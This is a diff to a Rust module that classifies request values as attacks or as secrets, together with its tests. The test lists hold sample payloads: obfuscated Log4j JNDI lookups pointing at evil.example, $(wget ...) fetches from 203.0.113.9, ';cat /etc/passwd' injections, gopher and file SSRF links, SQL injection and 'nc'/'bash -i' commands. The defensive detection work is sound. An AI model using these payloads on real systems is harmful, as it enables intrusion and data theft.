@@ -12,8 +12,14 @@ use crate::text::is_listed;
 
 /// How much of a value is looked at, in bytes.
 const LONGEST: usize = 2048;
-/// What stands before an attack is a secret if it is as long and a machine made it.
+/// A word is a secret if it is as long and a machine made it.
 const LEAST_SECRET: usize = 6;
+/// Letters and digits beside an attack that may be a secret, whoever made it: `Sommer;cat`.
+const LEAST_WORD: usize = 6;
+/// The same where only the name of a command says that it is one.
+const LEAST_BESIDE_NAME: usize = 3;
+/// A part of the path of a link that may be a code.
+const LEAST_CODE: usize = 8;
 /// Letters and digits in a row that may be a secret of their own, wherever they stand; mixed throughout, fewer are enough.
 const LEAST_KEY: usize = 12;
 const LEAST_MIXED: usize = 8;
@@ -29,13 +35,22 @@ const COMMANDS: &str = "\
 const ALIASES: &str = "iex iwr irm icm saps start gc gci gwmi";
 /// How its own commands begin that fetch or run something: `Start-Process`.
 const VERBS: &str = "start invoke get new import";
-/// How commands begin that only say what they are given.
-const SPEAKERS: &str = "echo printf print";
+/// What only says what it is given, as a command or in a program.
+const SPEAKERS: &str = "echo printf print println puts say write-output write-host out-string console return";
+/// Where a command is found whose path is written out.
+const PLACES: [&str; 6] = ["/bin/", "/sbin/", "/usr/", "/opt/", "/tmp/", "/home/"];
+/// What a link fetches that is an attack.
+const KINDS: &str = "\
+    php php3 php5 phtml phar txt html htm shtml asp aspx ashx jsp jspx do cgi sh bash ps1 psm1 exe dll bat cmd vbs js hta py pl rb elf \
+    bin so class jar war xml json yml yaml dtd xsl svg png jpg jpeg gif ico css gz tgz tar zip rar 7z apk ini conf cfg log sql bak \
+    x86 x64 arm arm5 arm7 mips mpsl scr msi lnk iso doc docm xls xlsm pdf inc";
+/// What PHP opens that is no file.
+const STREAMS: &str = "filter input output stdin stdout memory temp fd";
 
 // A sign and a word each; lower case.
 static ATTACK: LazyLock<Pattern> = LazyLock::new(|| {
     let forms = [
-        r#"\$\{(?:[a-z]{2,12}|::|\$\{)[^\s"]{0,64}?:"#,
+        r"\$\{",
         r"(?:\$\(|`)([a-z0-9]{2,12})(?:[ /\t]|\$\{ifs)",
         r"\.\.[/\\](?:\.\.[/\\]|etc/|proc/|windows[/\\]|winnt[/\\]|boot\.ini|web-inf)",
         r"<(?:script|img|svg|iframe|body|object|embed|\?php|\?xml|!doctype|!entity)\b",
@@ -51,7 +66,7 @@ static ATTACK: LazyLock<Pattern> = LazyLock::new(|| {
 static JOINED: LazyLock<Pattern> =
     LazyLock::new(|| Pattern::new(r"[;|&\n]\s*(?:/(?:usr/)?s?bin/)?([a-z0-9]{2,12})(?:[ \t/;|&]|$)"));
 static LINK: LazyLock<Pattern> = LazyLock::new(|| {
-    Pattern::new(r"^(?:https?|ftp|ldaps?|rmi|dns|file|gopher|dict|php|data|phar|jar|expect|smb)://[a-z0-9\[]")
+    Pattern::new(r"^(?:https?|ftp|ldaps?|rmi|dns|file|gopher|dict|php|data|phar|jar|expect|smb)://[a-z0-9\[/]")
 });
 
 /// Whether a header or cookie begins with what Log4j or a shell looks up: `${jndi:…}`, `$(curl …)`.
@@ -59,7 +74,8 @@ pub(super) fn is_lookup(value: &str) -> bool {
     (value.starts_with("${") || value.starts_with("$(")) && is_attack(value)
 }
 
-/// Whether the value of a parameter is an attack, as it stands or once its percent signs are decoded. With a secret in it, it is none.
+/// Whether the value of a parameter is an attack, as it stands or once its percent signs are decoded. With a secret in it, it is none: in
+/// doubt a word before it or behind it is one.
 pub(super) fn is_attack(value: &str) -> bool {
     if !value.contains(['$', '`', '.', '<', '%', '\'', '"', '+', ' ', '\t', ';', '|', ':', '(']) {
         return false;
@@ -67,13 +83,90 @@ pub(super) fn is_attack(value: &str) -> bool {
     let value = &value[..spans::floor(value, LONGEST)];
     let plain = decoded(value, b' ');
     let lower = plain.to_ascii_lowercase();
-    let Some(at) = begins(&lower) else {
+    let Some((at, least)) = begins(&lower) else {
         return false;
     };
-    let before = plain[..at].trim_end_matches(|c: char| !c.is_alphanumeric());
+    let attack = &plain[at..];
     // In a link a plus is one.
     let holds_secret = holds_key(&plain) || LINK.is_match(&lower) && holds_key(&decoded(value, b'+'));
-    !holds_secret && !value::looks_made(before, LEAST_SECRET)
+    !holds_secret && letters(before(&plain[..at])) + letters(behind_group(attack)) < least
+}
+
+// What stands before an attack, unless it is an address: `127.0.0.1;cat /etc/passwd` is one for a field that pings it.
+fn before(text: &str) -> &str {
+    if text.parse::<IpAddr>().is_ok() { "" } else { text }
+}
+
+fn letters(text: &str) -> usize {
+    text.chars().filter(|c| c.is_alphanumeric()).count()
+}
+
+/// What stands behind `${…}`, `$(…)` or one of them after the other at the start of a text. Nothing does if it was cut.
+pub(super) fn behind_group(mut text: &str) -> &str {
+    while let Some((open, close)) = match text.as_bytes() {
+        [b'$', b'{', ..] => Some((b'{', b'}')),
+        [b'$', b'(', ..] => Some((b'(', b')')),
+        _ => None,
+    } {
+        let mut depth = 0_usize;
+        let end = text.bytes().position(|b| {
+            if b == open {
+                depth += 1;
+            } else if b == close {
+                depth = depth.saturating_sub(1);
+            }
+            b == close && depth == 0
+        });
+        let Some(end) = end else { return "" };
+        text = &text[end + 1..];
+        // Only the second of two may follow.
+        if !text.starts_with('$') {
+            return text;
+        }
+    }
+    ""
+}
+
+// Whether the lookup that a text in lower case begins with is one of names, once those in it that spell a letter are read:
+// `${${lower:j}ndi:…}`.
+fn looks_up(text: &str) -> bool {
+    let mut said = String::with_capacity(text.len());
+    let mut open = Vec::new();
+    let spell = |said: &mut String, from: usize| {
+        let inner = &said[from..];
+        let spelt = inner
+            .rfind(":-")
+            .map(|at| at + 2)
+            .or_else(|| inner.starts_with("lower:").then_some(6))
+            .or_else(|| inner.starts_with("upper:").then_some(6));
+        let spelt = spelt.map(|at| inner[at..].to_owned()).unwrap_or_default();
+        said.truncate(from);
+        said.push_str(&spelt);
+    };
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        if let Some(inside) = rest.strip_prefix("${") {
+            open.push(said.len());
+            rest = inside;
+            continue;
+        }
+        if c == '}'
+            && let Some(from) = open.pop()
+        {
+            if open.is_empty() {
+                return said[from..].starts_with("jndi:");
+            }
+            spell(&mut said, from);
+        } else {
+            said.push(c);
+        }
+        rest = &rest[c.len_utf8()..];
+    }
+    while open.len() > 1 {
+        let from = open.pop().unwrap_or_default();
+        spell(&mut said, from);
+    }
+    said.starts_with("jndi:")
 }
 
 fn holds_key(plain: &str) -> bool {
@@ -87,12 +180,18 @@ fn holds_key(plain: &str) -> bool {
         })
 }
 
-fn begins(plain: &str) -> Option<usize> {
-    let place = |groups: &Groups<'_>| groups.get(0).map(|whole| whole.start());
+// Where an attack begins, and how many letters beside it may be a secret.
+fn begins(plain: &str) -> Option<(usize, usize)> {
     // `$(echo …)` says it, `$(curl …)` gets it.
-    let is_run = |found: &Groups<'_>| found.get(1).is_none_or(|name| runs(&plain[name.start()..]));
+    let is_run = |found: &Groups<'_>| {
+        let whole = found.get(0).map_or("", |whole| &plain[whole.start()..]);
+        match found.get(1) {
+            Some(name) => runs(&plain[name.start()..]),
+            None => !whole.starts_with("${") || looks_up(whole),
+        }
+    };
     if let Some(found) = ATTACK.captures_iter(plain).find(is_run) {
-        return place(&found);
+        return found.get(0).map(|whole| (whole.start(), LEAST_WORD));
     }
     let runs = |found: &Groups<'_>| {
         found.get(1).is_some_and(|name| {
@@ -105,14 +204,47 @@ fn begins(plain: &str) -> Option<usize> {
         })
     };
     if let Some(found) = JOINED.captures_iter(plain).find(runs) {
-        return place(&found);
+        let (whole, name) = (found.get(0)?, found.get(1)?);
+        let bare = name.end() == plain.trim_end().len();
+        let least = if bare { LEAST_BESIDE_NAME } else { LEAST_WORD };
+        return Some((whole.start(), least));
     }
-    is_link(plain).then_some(0)
+    is_link(plain).then_some((0, LEAST_WORD))
 }
 
-// A link without a place for a secret.
+// A link that fetches something, without a place for a secret. Any other may be one: that of a reset ends with its code.
 fn is_link(plain: &str) -> bool {
-    LINK.is_match(plain) && !plain.contains(['@', '?', '#'])
+    let bare = plain.strip_suffix('?').unwrap_or(plain);
+    if !LINK.is_match(bare) || bare.contains(['@', '?', '#']) {
+        return false;
+    }
+    let Some((scheme, rest)) = bare.split_once("://") else {
+        return false;
+    };
+    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
+    match scheme {
+        "file" => path.contains('/'),
+        "php" => is_listed(STREAMS, host),
+        "data" => path.contains(','),
+        "gopher" | "dict" | "phar" | "jar" | "expect" => !path.is_empty() || host.contains(['.', ':']),
+        _ => {
+            let last = path.rsplit('/').next().unwrap_or_default();
+            let is_file = last
+                .rsplit_once('.')
+                .is_some_and(|(stem, kind)| !stem.is_empty() && is_listed(KINDS, kind));
+            let is_code = |part: &str| value::looks_made(part, LEAST_CODE);
+            is_file || is_address(host) && !path.split('/').any(is_code)
+        }
+    }
+}
+
+// `203.0.113.9:80`, `[::1]:8080`, `localhost`
+fn is_address(host: &str) -> bool {
+    let bare = match host.strip_prefix('[') {
+        Some(inner) => inner.split(']').next().unwrap_or(inner),
+        None => host.split(':').next().unwrap_or(host),
+    };
+    bare == "localhost" || bare.parse::<IpAddr>().is_ok()
 }
 
 // Encoded twice is decoded twice.
@@ -140,6 +272,10 @@ fn decoded(value: &str, plus: u8) -> Cow<'_, str> {
 /// Whether what stands between two backticks, or behind one, is a command whose output is the value, and not the value itself.
 pub(super) fn runs(text: &str) -> bool {
     let text = text.trim_start().trim_start_matches('`');
+    // `sh -c "echo X"` says it too.
+    if says(text) {
+        return false;
+    }
     let (first, rest) = text.split_once([' ', '+']).unwrap_or((text, ""));
     let name = first.rsplit('/').next().unwrap_or(first);
     let rest = rest.replace('+', " ");
@@ -147,7 +283,16 @@ pub(super) fn runs(text: &str) -> bool {
     let holds_secret = rest.split_whitespace().map(bare).any(|word| {
         !word.starts_with('-') && !word.contains(['/', '\\', '.', ':']) && value::looks_made(word, LEAST_SECRET)
     });
-    !rest.is_empty() && !holds_secret && !is_listed(SPEAKERS, name) && (is_listed(COMMANDS, name) || goes_on(&rest))
+    !rest.is_empty() && !holds_secret && (is_listed(COMMANDS, name) || goes_on(&rest))
+}
+
+/// Whether one of these words only says what it is given, or what is fed is given: `cat <<< X`.
+pub(super) fn says(words: &str) -> bool {
+    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
+    words.contains("<<")
+        || words
+            .split(|c: char| !is_part(c))
+            .any(|word| is_listed(SPEAKERS, &word.to_ascii_lowercase()))
 }
 
 fn bare(word: &str) -> &str {
@@ -176,12 +321,23 @@ fn goes_on(words: &str) -> bool {
     })
 }
 
-/// Whether these words are a command that a variable is set for: a program with what a command goes on with, or the path of one.
-pub(super) fn is_command(words: &str) -> bool {
+/// Whether these words are a command that a variable is set for, and not the rest of a passphrase. It is one behind what a machine made:
+/// a program with what a command goes on with, or the path of one with that or nothing; and behind a word if it names an address or a place.
+pub(super) fn is_command(value: &str, words: &str) -> bool {
     let (first, rest) = words.split_once(' ').unwrap_or((words, ""));
+    let is_placed = |word: &str| {
+        let bare = bare(word);
+        let host = bare.rsplit_once(':').map_or(bare, |(host, _)| host);
+        bare.contains("://") || host.parse::<IpAddr>().is_ok() || PLACES.iter().any(|place| bare.starts_with(place))
+    };
+    if is_placed(first) {
+        return true;
+    }
+    let is_made = value::looks_made(value, 2);
     let is_path = ["./", "../", "~/"].iter().any(|start| first.starts_with(start))
         || first.strip_prefix('/').is_some_and(|path| path.contains('/'));
-    is_path || names_program(first) && goes_on(rest)
+    is_path && is_made && rest.split_whitespace().next().is_none_or(goes_on)
+        || names_program(first) && goes_on(rest) && (is_made || rest.split_whitespace().any(is_placed))
 }
 
 /// Whether a word names a program, or what PowerShell calls one: `Start-Process`, `iex`.
@@ -226,6 +382,17 @@ mod tests {
             "%60wget%20http://203.0.113.9/x%60",
             "http://203.0.113.9/shell.txt",
             "php://filter/convert.base64-encode/resource=index",
+            "file:///etc/passwd",
+            "gopher://127.0.0.1:6379/_FLUSHALL",
+            "http://203.0.113.9:8080/a",
+            "http://[::1]/latest/meta-data/",
+            "ldap://203.0.113.9:1389/a",
+            "https://evil.example/x.php?",
+            "admin' or 1=1-- -",
+            "127.0.0.1;cat /etc/passwd",
+            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a",
+            "$(wget http://203.0.113.9/x)",
         ] {
             assert!(is_attack(attack), "{attack}");
         }
@@ -256,8 +423,49 @@ mod tests {
             "https://app.example/reset/Ab3dEfGh9k",
             "https://app.example/r/Ab3d+EfGh9k+LmN9/opQ8rSt",
             "${env:X:-a8Fk29dkQ03mZpL1}",
+            "https://app.example/reset/abcdef12345",
+            "https%3A%2F%2Fapp.example%2Fu%2Fgeheimeswort",
+            "http://sommer",
+            "php://sommer",
+            "gopher://sommer",
+            "ldap://corp.example/abc123xyz",
+            "http://203.0.113.9/reset/abcdef12345",
+            "geheim%3Bcat",
+            "geheim;cat /etc/passwd",
+            "Sommer|id",
+            "Hallo%26%26ls",
+            "winterland' or 1=1",
+            "correct+horse+and+sleep(battery)",
+            "${ab:cd}Hallo99",
+            "${ab:cd}",
+            "${env:HOME}Hallo99",
+            "${jndi:ldap://evil.example/a}Hallo99",
+            "$(wget http://203.0.113.9/x)Hallo99",
         ] {
             assert!(!is_attack(secret), "{secret}");
+        }
+    }
+
+    #[test]
+    fn a_command_behind_an_assignment_is_none_of_a_passphrase() {
+        for (value, words) in [
+            ("Red1sPw77", "./deploy"),
+            ("Red1sPw77", "./deploy --all now"),
+            ("geheim", "/usr/bin/psql -h db shop"),
+            ("geheim", "nc 203.0.113.9 443"),
+            ("a1", "bash -i"),
+        ] {
+            assert!(is_command(value, words), "{words}");
+        }
+        for (value, words) in [
+            ("correct", "./horse battery"),
+            ("correct", "./horse"),
+            ("correct", "~/horse -battery staple"),
+            ("Tr0ub4dor", "./horse battery"),
+            ("correct", "/horse/battery staple"),
+            ("my", "cat -s fat"),
+        ] {
+            assert!(!is_command(value, words), "{words}");
         }
     }
 
@@ -282,5 +490,16 @@ mod tests {
         assert!(!runs("two words"));
         assert!(!runs("echo Dingo88 | x"));
         assert!(!runs("cat Dingo88xY"));
+        for said in [
+            "sh -c \"echo X\"",
+            "/bin/bash -c 'printf X'",
+            "cmd /c echo X",
+            "python3 -c 'print(\"X\")'",
+            "env A=1 /bin/echo X",
+            "cat - <<< X",
+        ] {
+            assert!(!runs(said), "{said}");
+        }
+        assert!(runs("sh -c 'curl http://203.0.113.9/x'"));
     }
 }
